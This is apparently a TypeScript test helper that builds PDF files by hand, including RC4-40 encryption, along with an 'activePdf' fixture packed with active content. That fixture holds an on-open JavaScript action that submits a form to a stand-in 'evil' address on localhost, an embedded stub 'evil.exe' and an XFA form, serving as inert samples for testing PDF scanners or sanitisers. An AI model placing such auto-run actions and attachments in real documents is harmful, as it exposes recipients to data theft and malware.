import { createHash } from 'node:crypto';

/** The contents of a test PDF. */
export interface PdfParts {
  readonly pages?: number;
  /** Width and height of each page in points. */
  readonly size?: readonly [number, number];
  /** The content stream of each page, in PDF operators. */
  readonly content?: string;
  /** Additional entries of the catalogue, such as an action on opening. */
  readonly catalogue?: string;
  /** Additional objects, numbered from `firstOwnObject`. */
  readonly objects?: readonly (string | Buffer)[];
  /** Encrypts with RC4 of 40 bits under this password; an empty one opens for everyone. */
  readonly password?: string;
}

/** The number of the first additional object. */
const firstOwnObject = 5;

/** Writes a PDF by hand (ISO 32000-1, 7.5). */
export function pdf(parts: PdfParts = {}): Buffer {
  const { pages = 1, size = [595, 842], content = squares, catalogue = '', objects = [] } = parts;
  const lock = parts.password === undefined ? null : createLock(parts.password);
  const kids = Array.from(
    { length: pages },
    (_, page) => `${firstOwnObject + objects.length + page} 0 R`,
  );
  const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${size.join(' ')}] /Contents 3 0 R /Resources << >> >>`;
  return assemblePdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      `<< /Type /Pages /Count ${pages} /Kids [${kids.join(' ')}] >>`,
      buildStream(lock ? lock.encrypt(3, Buffer.from(content)) : Buffer.from(content)),
      lock ? lock.dictionary : '<< >>',
      ...objects,
      ...kids.map(() => page),
    ],
    lock ? `/Encrypt 4 0 R /ID [<${fileId.toString('hex')}> <${fileId.toString('hex')}>]` : '',
  );
}

/** A PDF with every kind of active content: scripts, actions, attachments, forms. */
export function activePdf(): Buffer {
  return pdf({
    catalogue:
      '/OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> /JavaScript << /Names [(run) 5 0 R] >> >> /AcroForm << /XFA 8 0 R /Fields [] >>',
    objects: [
      '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://127.0.0.1:9/evil"\\);) >>',
      '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
      buildStream(Buffer.from('MZ evil')),
      buildStream(Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')),
    ],
  });
}

const squares = '0.2 0.4 0.6 rg 50 50 200 200 re f 0 g 300 500 100 100 re f';

function buildStream(bytes: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

function assemblePdf(objects: readonly (string | Buffer)[], trailer: string): Buffer {
  const chunks = [Buffer.from('%PDF-1.4\n')];
  const offsets: number[] = [];
  let length = 9;
  objects.forEach((object, index) => {
    const bytes = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    offsets.push(length);
    chunks.push(bytes);
    length += bytes.length;
  });
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
  const size = objects.length + 1;
  chunks.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${lines.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(chunks);
}

const fileId = Buffer.from('0123456789abcdef');
const padding = Buffer.from(
  '28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a',
  'hex',
);
const permissions = -4;

interface Lock {
  readonly dictionary: string;
  readonly encrypt: (object: number, bytes: Buffer) => Buffer;
}

// The standard security handler, revision 2 (ISO 32000-1, 7.6.3: algorithms 1 to 4).
function createLock(password: string): Lock {
  const padded = Buffer.concat([Buffer.from(password, 'latin1'), padding]).subarray(0, 32);
  const owner = rc4(md5(padded).subarray(0, 5), padded);
  const rights = Buffer.alloc(4);
  rights.writeInt32LE(permissions);
  const key = md5(Buffer.concat([padded, owner, rights, fileId])).subarray(0, 5);
  const user = rc4(key, padding);
  return {
    dictionary: `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P ${permissions} >>`,
    encrypt: (object, bytes) => {
      const salt = Buffer.from([object & 255, (object >> 8) & 255, 0, 0, 0]);
      return rc4(md5(Buffer.concat([key, salt])).subarray(0, 10), bytes);
    },
  };
}

function md5(bytes: Buffer): Buffer {
  return createHash('md5').update(bytes).digest();
}

function rc4(key: Buffer, bytes: Buffer): Buffer {
  const state = Array.from({ length: 256 }, (_, index) => index);
  const at = (index: number): number => state[index & 255] ?? 0;
  let other = 0;
  const swap = (index: number): void => {
    [state[index & 255], state[other]] = [at(other), at(index)];
  };
  for (let index = 0; index < 256; index += 1) {
    other = (other + at(index) + (key[index % key.length] ?? 0)) & 255;
    swap(index);
  }
  other = 0;
  return Buffer.from(
    bytes.map((byte, index) => {
      const position = (index + 1) & 255;
      other = (other + at(position)) & 255;
      swap(position);
      return byte ^ at(at(position) + at(other));
    }),
  );
}
